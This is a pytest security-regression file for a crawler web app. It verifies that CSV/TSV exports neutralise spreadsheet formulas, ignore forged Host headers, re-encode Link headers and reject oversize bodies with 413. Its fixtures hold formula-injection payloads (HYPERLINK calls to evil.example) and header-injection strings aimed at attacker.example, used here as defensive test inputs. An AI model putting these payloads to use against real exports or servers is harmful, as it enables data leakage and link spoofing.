"""Issue 12, findings 8 and 10 (this area): every CSV/TSV we write neutralises spreadsheet
formulas in every column, links never come from the request's Host, ``Link`` headers never
carry a raw query string, and request bodies are capped per route with the JSON 413.

A hostile profile per formula-leading character is crawled from loopback; the outputs are
read as a hub officer (or an attacker) would get them: over HTTP from the app served by
waitress as ``hubnet-crawler serve`` serves it, and through the CLI.
"""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import threading
import unicodedata

import pytest
from click.testing import CliRunner

from hubnet.crawler.cli import main as cli
from hubnet.crawler.crawl.crawler import Crawler
from hubnet.crawler.settings import Settings
from hubnet.crawler.store.graph import Store
from hubnet.crawler.web import create_app
from hubnet.crawler.web.serve import make_server
from hubnet.testing import Federation

pytestmark = pytest.mark.slow

PUBLIC = "https://hub.example.org"
EVIL_HOST = "attacker.example"
# Every formula-leading character, written out here (not taken from the code under test).
CHARS = {f"u{ord(c):04x}": c for c in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"}
HOSTS = [f"{name}.test" for name in CHARS]
NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?(?:[eE]-?[0-9]+)?")


def hostile(char: str, field: str) -> str:
    return f"{char}HYPERLINK(\"http://evil.example/?{field}\",\"x\")"


def neutralised(char: str, field: str) -> set:
    """What a spreadsheet may get: the value with a leading quote, or, for a leading tab or CR,
    the value trimmed (profile text is trimmed where it is parsed, leaving nothing to neutralise)."""
    value = hostile(char, field)
    return {fold("'" + value)} | ({fold(value.strip())} if char.isspace() else set())


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    fed = Federation()
    path = tmp_path_factory.mktemp("hostile") / "store"
    for (name, char), host in zip(CHARS.items(), HOSTS):
        fed.put(host, "/", {
            "@context": "https://w3id.org/hubnet/context.jsonld", "@id": fed.group_iri(host), "@type": "Organization",
            "name": hostile(char, "name"), "description": hostile(char, "description"), "url": fed.url(host),
            "knowsAbout": ["formula", hostile(char, "topic")],
            "areaServed": {"@type": "AdministrativeArea", "name": hostile(char, "area")},
            "location": {"@type": "Place", "geo": {"@type": "GeoCoordinates", "latitude": 51.5, "longitude": -0.02}},
            "contactPoint": {"@type": "ContactPoint", "name": hostile(char, "contact"),
                             "email": f"c@{host}", "telephone": "+44 20 7946 0999"}})
    store = Store(path)
    Crawler(store, Settings(allow_private=True, per_host_delay=0.0, retries=0,
                            resolve=fed.resolve_map(*HOSTS))).crawl([fed.url(h) for h in HOSTS])
    store.close()
    query = "SELECT ?s ?p ?o (-1 AS ?negative) WHERE { GRAPH ?g { ?s ?p ?o } }"
    cli_out = {fmt: CliRunner().invoke(cli, ["query", query, "--store", str(path), "--format", fmt]).output
               for fmt in ("csv", "tsv")}
    app = create_app({"STORE": str(path), "BACKGROUND": False, "QUERY_WORKERS": 1, "PUBLIC_URL": PUBLIC,
                      "ALLOW_PRIVATE": True, "RESOLVE": fed.resolve_map(*HOSTS)})
    server = make_server(app, host="127.0.0.1", port=0)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    yield {"app": app, "client": app.test_client(), "port": server.effective_port, "cli": cli_out, "query": query}
    server.close()
    app.extensions["hubnet"].close()
    fed.close()


def fold(text: str) -> str:
    """Topics are stored normalised (NFKC, lower case): compare in that form."""
    return unicodedata.normalize("NFKC", text).casefold()


def rows_of(text: str, tsv: bool = False) -> list:
    if tsv:   # SPARQL TSV: terms in Turtle syntax, a literal in quotes that a spreadsheet strips
        return [[cell[1:-1].replace('\\"', '"') if cell.startswith('"') and cell.endswith('"') else cell
                 for cell in line.split("\t")]
                for line in text.splitlines() if line]
    return list(csv.reader(io.StringIO(text)))


def outputs(env) -> dict:
    client, query = env["client"], env["query"]
    get = lambda url, **kw: client.get(url, **kw).get_data(as_text=True)  # noqa: E731
    return {
        "/export.csv": (get("/export.csv"), False),
        "/api/contacts.csv": (get("/api/contacts.csv?topic=formula"), False),
        "/sparql csv": (get("/sparql", query_string={"query": query}, headers={"Accept": "text/csv"}), False),
        "/sparql tsv": (get("/sparql", query_string={"query": query},
                            headers={"Accept": "text/tab-separated-values"}), True),
        "query --format csv": (env["cli"]["csv"], False),
        "query --format tsv": (env["cli"]["tsv"], True),
    }


OUTPUTS = ["/export.csv", "/api/contacts.csv", "/sparql csv", "/sparql tsv", "query --format csv",
           "query --format tsv"]
# The columns that carry profile text in each output, with the field they carry.
TEXT_COLUMNS = {"/export.csv": {"name": "name", "area": "area"},
                "/api/contacts.csv": {"name": "name", "contact_name": "contact", "area": "area"}}


@pytest.mark.parametrize("output", OUTPUTS)
def test_no_cell_of_any_csv_output_starts_a_formula(env, output):
    text, tsv = outputs(env)[output]
    rows = rows_of(text, tsv)
    assert len(rows) > len(CHARS), text[:500]
    for row in rows:
        for cell in row:
            # Only a plain number (a coordinate) may start with "-": a spreadsheet reads it as that number.
            assert not cell.startswith(tuple(CHARS.values())) or NUMBER.fullmatch(cell), (output, cell)
    cells = {fold(cell) for row in rows for cell in row}
    for char in CHARS.values():   # every hostile value made it out, neutralised (the test is not vacuous)
        fields = ("name", "description", "topic", "area", "contact") if "sparql" in output or "query" in output \
            else TEXT_COLUMNS[output].values()
        for field in fields:
            wanted = neutralised(char, field)
            assert any(w in cell for cell in cells for w in wanted), (output, field, repr(char))


@pytest.mark.parametrize("output", sorted(TEXT_COLUMNS))
def test_every_text_column_is_neutralised_in_place(env, output):
    text, _ = outputs(env)[output]
    rows = list(csv.DictReader(io.StringIO(text)))
    for column, field in TEXT_COLUMNS[output].items():
        got = sorted(fold(cell) for r in rows for cell in r[column].split("; ") if "hyperlink" in fold(cell))
        assert len(got) == len(CHARS), (output, column, got)
        for char in CHARS.values():
            assert len(neutralised(char, field) & set(got)) == 1, (output, column, repr(char), got)


# ---------------------------------------------------------------------- the Host header is never reflected
def test_links_use_the_public_url_never_the_host_header(env):
    client = env["client"]
    headers = {"Host": EVIL_HOST, "X-Forwarded-Host": EVIL_HOST}
    requests = {
        "/export.csv": ("/export.csv", {}),
        "/export.geojson": ("/export.geojson", {}),
        "/.well-known/void": ("/.well-known/void", {}),
        "service description": ("/sparql", {"Accept": "text/turtle"}),
        "query page": ("/sparql", {"Accept": "text/html"}),
    }
    for name, (path, extra) in requests.items():
        resp = client.get(path, headers={**headers, **extra})
        text = resp.get_data(as_text=True)
        resp.close()
        assert resp.status_code == 200, (name, text[:300])
        assert EVIL_HOST not in text, name
        assert PUBLIC in text, name


# ---------------------------------------------------------------------- Link headers

@pytest.mark.parametrize("path", ["/", "/sources", "/contacts", "/matches", "/introductions", "/network"])
def test_link_headers_carry_the_query_re_encoded(env, path):
    raw = 'topic=a>;+rel="preload";+x=";q=<b>,<c>&area=\'"'
    resp = env["client"].get(path + "?" + raw)
    link = resp.headers.get("Link")
    assert link, (path, resp.status_code)
    assert re.fullmatch(r'<[^<>"\s,;]*>; rel="alternate"; type="application/json"', link), link


# ---------------------------------------------------------------------- request bodies
def raw_request(port: int, head: str, body: bytes = b"") -> tuple[int, dict]:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(head.encode("latin-1") + body)
        data = b""
        try:
            while chunk := sock.recv(65536):
                data += chunk
        except (ConnectionResetError, socket.timeout):
            pass
    status = int(data.split(b" ", 2)[1])
    return status, json.loads(data.split(b"\r\n\r\n", 1)[1])


def post_head(path: str, length: int | None, ctype="application/x-www-form-urlencoded") -> str:
    framing = f"Content-Length: {length}" if length is not None else "Transfer-Encoding: chunked"
    return f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: {ctype}\r\n{framing}\r\nConnection: close\r\n\r\n"


def chunked(body: bytes, size: int = 4096) -> bytes:
    parts = [b"%x\r\n%s\r\n" % (len(body[i:i + size]), body[i:i + size]) for i in range(0, len(body), size)]
    return b"".join(parts) + b"0\r\n\r\n"


@pytest.mark.parametrize("case", ["200 MB declared", "over the ping limit", "chunked over the ping limit"])
def test_an_oversize_ping_is_413_in_the_json_shape_unread(env, case):
    port, limit = env["port"], env["app"].config["PING_MAX_BODY"]
    body = b"url=" + b"a" * (limit + 100)
    if case == "200 MB declared":   # only 1 MiB is sent: the answer must not wait for the rest
        status, doc = raw_request(port, post_head("/ping", 200 * 1024 * 1024), b"x" * (1 << 20))
    elif case == "over the ping limit":
        status, doc = raw_request(port, post_head("/ping", len(body)), body)
    else:
        status, doc = raw_request(port, post_head("/ping", None), chunked(body))
    assert status == 413
    assert doc["ok"] is False and doc["error"]["status"] == 413 and doc["error"]["code"] == "too_large", doc


def test_a_ping_within_its_limit_is_accepted(env):
    body = b"url=http://" + HOSTS[0].encode() + b"/"
    status, doc = raw_request(env["port"], post_head("/ping", len(body)), body)
    assert status == 202 and doc["ok"] is True, doc


@pytest.mark.parametrize("framing", ["declared", "chunked"])
def test_an_oversize_sparql_body_is_413_in_the_json_shape(env, framing):
    body = b"ASK { ?s ?p ?o } #" + b"x" * (1 << 20)
    head = post_head("/sparql", len(body) if framing == "declared" else None, "application/sparql-query")
    status, doc = raw_request(env["port"], head, body if framing == "declared" else chunked(body))
    assert status == 413 and doc["ok"] is False and doc["error"]["code"] in ("too_large", "query_too_long"), doc


def test_other_routes_take_no_large_body(env):
    body = b"x" * (env["app"].config["MAX_CONTENT_LENGTH"] + 1)
    status, doc = raw_request(env["port"], post_head("/api/contacts.csv", len(body)), body)
    assert status in (405, 413) and doc["ok"] is False
